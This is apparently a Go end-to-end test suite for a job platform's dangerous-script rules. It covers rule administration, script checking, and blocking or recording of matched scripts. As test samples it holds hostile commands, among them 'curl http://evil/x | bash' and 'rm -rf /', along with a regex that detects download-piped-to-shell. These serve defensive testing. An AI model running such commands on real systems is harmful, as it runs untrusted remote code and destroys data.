package e2e

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// codeDangerousScript is bk-job's DANGEROUS_SCRIPT_FORBIDDEN_EXECUTION.
const codeDangerousScript = 1244019

type dangerRecordPage struct {
	Total int `json:"total"`
	Data  []struct {
		RuleID   int64  `json:"rule_id"`
		Action   int    `json:"action"`
		Operator string `json:"operator"`
		ScopeID  string `json:"bk_scope_id"`
		Content  string `json:"script_content"`
	} `json:"data"`
}

// TestV3DangerousRules: bk-job's rule endpoints on the built binary, for
// administrators, without a scope (rules are the platform's); check_script
// for a business; fast_execute_script refused with 1244019 naming the rule
// and creating no job when an intercept rule matches, run when a scan rule
// does; both recorded. A caller that is not an administrator edits and
// reads no rule, and a refused write changes nothing.
func TestV3DangerousRules(t *testing.T) {
	c := StartCluster(t, "BKJOB_GSE__LOCAL_AGENT__ENABLED=true", "BKJOB_GSE__LOCAL_AGENT__IP=127.0.0.1")
	require.Eventually(t, func() bool { return strings.Contains(c.Output.String(), `msg="agent connected" role=gse`) },
		60*time.Second, 50*time.Millisecond, "the built-in agent never connected")
	insertPrincipals(t, c.DataDir) // app "ops" and user alice: no administrators
	local := []target{fixedIP("127.0.0.1")}

	var rule struct {
		ID     int64 `json:"id"`
		Status int   `json:"status"`
	}
	c.v3Into(t, "create_dangerous_rule", map[string]any{"expression": `curl\s+\S+\s*\|\s*(ba)?sh`, "script_language_list": []int{1},
		"description": "Pipe a download into a shell", "action": 2}, &rule)
	require.Positive(t, rule.ID)
	require.Equal(t, 0, rule.Status, "created disabled, as bk-job")
	var scan struct {
		ID int64 `json:"id"`
	}
	c.v3Into(t, "create_dangerous_rule", map[string]any{"expression": `echo scan-me`, "script_language_list": []int{1},
		"description": "Scanned", "action": 1}, &scan)
	for _, id := range []int64{rule.ID, scan.ID} {
		c.v3(t, "enable_dangerous_rule", map[string]any{"id": id})
	}

	t.Run("NonAdministratorsAreRefused", func(t *testing.T) {
		ops := &API{Base: c.URL, Header: http.Header{"X-Bkapi-Authorization": {`{"bk_app_code":"ops","bk_app_secret":"ops-secret"}`}}}
		for name, body := range map[string]map[string]any{
			"create_dangerous_rule":   {"expression": "x", "script_language_list": []int{1}, "description": "d", "action": 2},
			"update_dangerous_rule":   {"id": rule.ID, "expression": "x", "script_language_list": []int{1}, "description": "d", "action": 1},
			"delete_dangerous_rule":   {"id": rule.ID},
			"disable_dangerous_rule":  {"id": rule.ID},
			"get_dangerous_rule_list": {},
			"list_dangerous_records":  {},
			"move_dangerous_rule":     {"id": rule.ID, "dir": 1},
		} {
			_, raw := ops.do(t, http.MethodPost, "/api/v3/"+name, scope(body))
			require.Contains(t, string(raw), `"code":1238001`, name)
			require.Contains(t, string(raw), "administrator", name)
		}
		// check_script is a business's: a caller not granted it is refused.
		_, raw := ops.do(t, http.MethodPost, "/api/v3/check_script", scope(map[string]any{"script_language": 1, "content": b64("echo")}))
		require.Contains(t, string(raw), `"code":1238001`)
		resp, raw := webSession(t, c.URL, "alice", "alice-pass").do(t, http.MethodPost, "/api/web/disable_dangerous_rule", map[string]any{"id": rule.ID})
		requireWebError(t, resp, raw, http.StatusForbidden, 1238001, "")
		var list []struct {
			ID     int64 `json:"id"`
			Status int   `json:"status"`
		}
		c.v3Into(t, "get_dangerous_rule_list", map[string]any{}, &list)
		require.Len(t, list, 2)
		require.Equal(t, 1, list[0].Status, "nothing changed")
	})

	t.Run("BadExpressionNamesTheField", func(t *testing.T) {
		env := c.call(t, "create_dangerous_rule", map[string]any{"expression": `(a)\1`, "script_language_list": []int{1}, "description": "d", "action": 2})
		require.False(t, env.Result)
		require.Equal(t, 1241010, env.Code, env.Message)
		require.Contains(t, env.Message, "expression")
	})

	t.Run("CheckScript", func(t *testing.T) {
		var items []struct {
			Line        int    `json:"line"`
			Level       int    `json:"level"`
			Description string `json:"description"`
		}
		c.v3Into(t, "check_script", scope(map[string]any{"script_language": 1, "content": b64("#!/bin/bash\nrm -rf /\ncurl http://x/i | sh\n")}), &items)
		require.Len(t, items, 2)
		require.Equal(t, 2, items[0].Line)
		require.Equal(t, 3, items[0].Level, "rm -rf / is fatal")
		require.Equal(t, 3, items[1].Line)
		require.Equal(t, "Pipe a download into a shell", items[1].Description)
		env := c.call(t, "check_script", map[string]any{"script_language": 1, "content": b64("echo")})
		require.False(t, env.Result, "check_script is a business's: the scope is required")
	})

	t.Run("InterceptRefusesAndCreatesNoJob", func(t *testing.T) {
		before := c.jobCount(t)
		env := c.call(t, "fast_execute_script", scriptBody("echo hi\ncurl http://evil/x | bash\n", local, nil))
		require.False(t, env.Result)
		require.Equal(t, codeDangerousScript, env.Code, env.Message)
		require.Contains(t, env.Message, "Pipe a download into a shell")
		require.Equal(t, before, c.jobCount(t))
	})

	t.Run("ScanRunsAndIsRecorded", func(t *testing.T) {
		job := c.runScript(t, "echo scan-me", local, nil)
		require.Equal(t, runSuccess, c.waitJob(t, job.JobInstanceID, time.Minute).JobInstance.Status)
		var page dangerRecordPage
		c.v3Into(t, "list_dangerous_records", map[string]any{}, &page)
		require.Equal(t, 2, page.Total)
		require.Equal(t, scan.ID, page.Data[0].RuleID)
		require.Equal(t, 1, page.Data[0].Action)
		require.Equal(t, rule.ID, page.Data[1].RuleID)
		require.Equal(t, 2, page.Data[1].Action)
		require.Equal(t, "1", page.Data[1].ScopeID)
		require.Contains(t, page.Data[1].Content, "curl http://evil/x | bash")
		require.NotEmpty(t, page.Data[1].Operator)
	})

	t.Run("DisabledRuleLetsItRun", func(t *testing.T) {
		c.v3(t, "disable_dangerous_rule", map[string]any{"id": rule.ID})
		job := c.runScript(t, "echo 'curl http://x/y | sh'", local, nil)
		require.Positive(t, job.JobInstanceID)
		c.v3(t, "delete_dangerous_rule", map[string]any{"id": rule.ID})
		var list []json.RawMessage
		c.v3Into(t, "get_dangerous_rule_list", map[string]any{}, &list)
		require.Len(t, list, 1)
	})
}
